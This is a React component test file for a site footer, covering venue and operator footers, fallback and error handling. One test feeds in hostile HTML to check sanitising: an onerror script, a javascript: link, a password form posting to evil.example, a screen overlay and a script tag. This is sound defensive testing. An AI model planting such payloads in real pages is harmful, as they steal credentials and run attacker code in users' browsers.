import { screen, waitFor } from '@testing-library/react';
import { http, HttpResponse } from 'msw';
import { describe, expect, it } from 'vitest';
import { firstVenue } from '@leisure/test-support';
import { SiteFooter } from '../src/footer/SiteFooter.tsx';
import { server } from './support/mswServer.ts';
import { renderLayout } from './support/renderLayout.tsx';
import { apiBaseUrl, useSandbox } from './support/sandboxApi.ts';

describe('SiteFooter', () => {
  const { sandbox } = useSandbox();
  const aVenue = () => firstVenue(sandbox());

  it("shows the venue's footer from the sandbox as the page's contentinfo", async () => {
    const venue = aVenue();
    renderLayout(<SiteFooter venue={venue.slug} />);
    const footer = await screen.findByRole('contentinfo');
    expect(await screen.findByRole('heading', { name: venue.name })).toBeInTheDocument();
    expect(footer).toHaveTextContent('Opening hours');
  });

  it("shows the operator's footer without a venue", async () => {
    renderLayout(<SiteFooter venue={undefined} />);
    expect(await screen.findByRole('heading', { name: 'Help' })).toBeInTheDocument();
    expect(screen.queryByText('Opening hours')).not.toBeInTheDocument();
  });

  it("falls back to the operator's footer for an unknown venue", async () => {
    renderLayout(<SiteFooter venue="no-such-venue" />);
    expect(await screen.findByRole('heading', { name: 'Legal' })).toBeInTheDocument();
  });

  it('sanitises hostile footer HTML', async () => {
    // A hand-written answer: the sandbox serves only well-behaved footers.
    server.use(
      http.get(`${apiBaseUrl}/activities/footer`, () =>
        HttpResponse.json({
          data: {
            html:
              '<p>Call us</p><img src="x" onerror="window.pwned = true"><a href="javascript:alert(1)">Offers</a>' +
              '<form action="https://evil.example"><input type="password" name="p"><button>Log in</button></form>' +
              '<div style="position:fixed;inset:0">Overlay</div><script>window.pwned = true</script>' +
              '<a href="https://example.org" target="_blank">Partner</a>',
          },
        }),
      ),
    );
    const { container } = renderLayout(<SiteFooter venue={undefined} />);
    await screen.findByText('Call us');
    const footer = screen.getByRole('contentinfo');
    expect(footer.querySelector('form, input, button, script, [style], [onerror]')).toBeNull();
    expect(screen.getByText('Offers')).not.toHaveAttribute('href', expect.stringMatching(/javascript/i));
    expect(screen.getByRole('link', { name: 'Partner' })).toHaveAttribute('rel', 'noopener noreferrer');
    expect((window as { pwned?: boolean }).pwned).toBeUndefined();
    expect(container).toContainElement(footer);
  });

  it('leaves the page without a footer when none can be had', async () => {
    server.use(
      http.get(`${apiBaseUrl}/activities/footer`, () => HttpResponse.json({ message: 'Down' }, { status: 500 })),
    );
    const { store } = renderLayout(<SiteFooter venue={undefined} />);
    await waitFor(() => expect(JSON.stringify(store.getState().api.queries)).toContain('rejected'));
    expect(screen.queryByRole('contentinfo')).not.toBeInTheDocument();
  });
});
